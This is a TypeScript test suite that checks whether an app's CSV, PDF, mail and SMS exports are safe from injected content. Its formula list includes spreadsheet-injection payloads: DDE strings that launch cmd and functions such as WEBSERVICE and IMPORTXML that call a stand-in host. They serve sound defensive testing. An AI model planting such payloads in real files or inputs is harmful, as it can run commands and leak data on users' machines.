import { Buffer } from 'node:buffer'
import type { Endpoint } from '@plein/contract/endpoint'
import { beforeAll, afterAll, describe, expect, test } from 'vitest'
import { routes } from '../../app.ts'
import { run } from '#platform/db/database.ts'
import { readCsv } from '#platform/files/csv-reader.ts'
import { htmlMail } from '#platform/mail/layout.ts'
import { eventually } from '#platform/testing/eventually.ts'
import { isLetter } from '#modules/notifications/way.ts'
import { getContent } from '#modules/notifications/content.ts'
import type { MessageRow } from '#modules/notifications/message.queries.ts'
import { pdfError } from '#platform/files/pdf.rules.ts'
import { hostileTexts } from '../every-endpoint/hostile-text.ts'
import {
  ask,
  createTenantTestApp,
  paramsFor,
  queryFor,
  type Asked,
  type TenantTestApp,
} from '../every-endpoint/tenants.ts'
import { sayHostileWords, type Written } from './say-hostile-words.ts'
import { createWords } from './words.ts'

/** The e-invoice in the PDFs of a bill is a file of ours (0088); what else stands there is judged. */
const withoutInvoice = (path: string, pdf: Buffer): Buffer =>
  /^\/bills\/\{uuid\}\/(pdf|receipt)$/.test(path)
    ? Buffer.from(pdf.toString('latin1').replaceAll(/\/EmbeddedFiles?(?![A-Za-z])/g, '/OwnInvoice'), 'latin1')
    : pdf

/** Thirty texts that a spreadsheet would run: formulas, calls of programs, and what only looks like an empty beginning. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=cmd|"/C calc"!A0',
  '+cmd|"/C calc"!A0',
  '-cmd|"/C calc"!A0',
  '@cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=2+5+cmd|"/C calc"!A0',
  "='1'+1",
  '=";=1+1',
  '=1+1;=1+1',
  '=1+1,=1+1',
  '"=1+1',
  "'=1+1",
  ';=1+1',
  '-2+3+cmd|"/C calc"!D2',
  '+(1)',
  '--1',
  '=-1',
  '=+1',
  '=@A1',
  '=A1&B1',
  '@A1',
  '+A1',
  '-A1',
]

interface Sent {
  readonly subject: string | null
  readonly body: string
  readonly html: string | null
}

/** In one look: what leaves one of the places stands in the next. */
const waitingToBeSent = `
  select ((select count(*) from platform.outbox)
        + (select count(*) from graphile_worker._private_jobs where run_at <= now() and attempts < max_attempts)
        + (select count(*) from notifications.messages where status = 'queued'))::int as count`

/** All mails and SMS, once nothing is to be sent any more; secret ones opened. */
const sentMessages = async (app: TenantTestApp): Promise<Sent[]> => {
  const jobs = await app.server.startJobs()
  try {
    await eventually(
      async () => expect(await run<{ count: number }>(app.owner.db, waitingToBeSent)).toEqual([{ count: 0 }]),
      45_000,
    )
  } finally {
    await jobs.stop()
  }
  const rows = await run<MessageRow>(app.owner.db, 'select subject, body, content, sealed from notifications.messages')
  return rows.map((row) => {
    const { body, content } = getContent(app.server.app.settings, row)
    return { subject: row.subject, body, html: content && !isLetter(content) ? htmlMail(content) : null }
  })
}

const ourTags =
  /^\/?(!doctype|html|head|meta|title|style|body|table|tbody|tr|td|div|p|span|strong|b|h1|h2|a|br|hr|img|ul|li)$/i

/** Tags and attributes that our mails are not made of, and links to elsewhere. */
const strangeMarkup = (html: string): string[] =>
  [...html.matchAll(/<([^\s>]+)([^>]*)>/g)].flatMap(([tag, name = '', rest = '']) => {
    const addresses = [...rest.matchAll(/(?:href|src)="([^"]*)"/gi)].map(([, address = '']) => address)
    const elsewhere = addresses.filter(
      (address) => !/^(https?:\/\/[\w.-]+\.(localhost|example)[:/]|mailto:|tel:|cid:)/.test(address),
    )
    const acts = /\son\w+\s*=/i.test(rest.replaceAll(/"[^"]*"/g, '""'))
    return ourTags.test(name) && !acts && elsewhere.length === 0 ? [] : [tag]
  })

const signs: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'", '#x27': "'" }
const unescaped = (html: string): string =>
  html.replaceAll(/&(amp|lt|gt|quot|#39|#x27);/g, (_all, name: string) => signs[name] ?? '')

const kindOf = ({ callers }: Endpoint) => callers[0]

describe.each([
  ['texts that would be code', hostileTexts],
  ['formulas', formulas],
] as const)('[S2] what leaves the house with %s', (_what, texts) => {
  let app: TenantTestApp
  let input: Written
  beforeAll(async () => {
    app = await createTenantTestApp()
    input = await sayHostileWords(app, createWords(0, texts))
  })
  afterAll(() => app.close())

  const userOf = (endpoint: Endpoint): string | undefined => {
    const kind = kindOf(endpoint)
    return kind === 'guest' ? undefined : kind === 'admin' ? app.admin : app.mine.people[kind]
  }
  const files = (type: string) => routes.map(({ endpoint }) => endpoint).filter(({ produces }) => produces === type)
  /** These hold cards with the words that were said. */
  const ofCards = ({ path }: Endpoint): Partial<Asked> => {
    const { gift_order, gift_key, printed_batch } = input.objects
    if (path.startsWith('/card-orders/')) return { params: { uuid: gift_order }, query: { key: gift_key } }
    const isBatch = path === '/batches/{uuid}/export'
    return isBatch ? { params: { uuid: printed_batch }, body: { format: 'pdf', password: 'Plein-2026' } } : {}
  }
  const fetched = (endpoint: Endpoint) =>
    ask(app, endpoint, {
      kind: kindOf(endpoint),
      user_uuid: userOf(endpoint),
      params: { ...paramsFor(endpoint, app.mine), ledger: 'all' },
      query: queryFor(endpoint, app.mine),
      ...ofCards(endpoint),
    })

  test('[S3] no cell of any CSV begins as a formula, and what was typed is there', async () => {
    const cells: string[] = []
    for (const endpoint of files('text/csv')) {
      const answer = await fetched(endpoint)
      // Not there, or nothing is paid yet of which there would be a receipt.
      if ([404, 409, 422].includes(answer.statusCode)) continue
      expect([endpoint.path, answer.statusCode]).toEqual([endpoint.path, 200])
      cells.push(...readCsv(answer.rawPayload).rows.flat())
    }
    // An amount below zero is a number, and nothing else may begin as one.
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+([.,]\d+)?$/.test(cell))).toEqual([])
    const whole = new Set(cells.map((cell) => cell.replace(/^'/, '')))
    for (const name of ['order.first_name', 'owner.company_name'])
      expect([...whole].some((cell) => cell.includes(input.texts[name]!.replace(/^'/, '')))).toBe(true)
  })

  test('a PDF holds nothing that runs or opens', async () => {
    const seen: string[] = []
    for (const endpoint of files('application/pdf')) {
      const answer = await fetched(endpoint)
      // Not there, or nothing is paid yet of which there would be a receipt.
      if ([404, 409, 422].includes(answer.statusCode)) continue
      seen.push(endpoint.path)
      const read = withoutInvoice(endpoint.path, answer.rawPayload)
      expect([endpoint.path, await pdfError(read)]).toEqual([endpoint.path, undefined])
    }
    expect(seen.length).toBeGreaterThanOrEqual(6)
    for (const path of [
      '/batches/{uuid}/export',
      '/card-orders/{uuid}/cards',
      '/card-orders/{uuid}/invoice',
      '/redemptions/{uuid}/slip',
    ])
      expect(seen).toContain(path)
  })

  test('a mail or SMS holds no markup but our own, no address but ours, and one line of subject', async () => {
    const mails = await sentMessages(app)
    expect(mails.length).toBeGreaterThanOrEqual(10)
    expect(mails.filter(({ subject }) => /[\r\n]/.test(subject ?? ''))).toEqual([])
    for (const { html } of mails) expect(strangeMarkup(html ?? '')).toEqual([])
    // Long lines of a mail are broken between words.
    const flat = (text: string): string => text.replaceAll(/\s+/g, ' ')
    const written = flat(mails.map(({ body, html }) => `${body}\n${unescaped(html ?? '')}`).join('\n'))
    for (const name of [
      'program.title',
      'program.delivering_sms_text',
      'support0.text',
      'support1.name',
      'cards.title',
      'gift.message',
      'addressee.message',
    ])
      expect([name, written.includes(flat(input.texts[name]!))]).toEqual([name, true])
  })
})
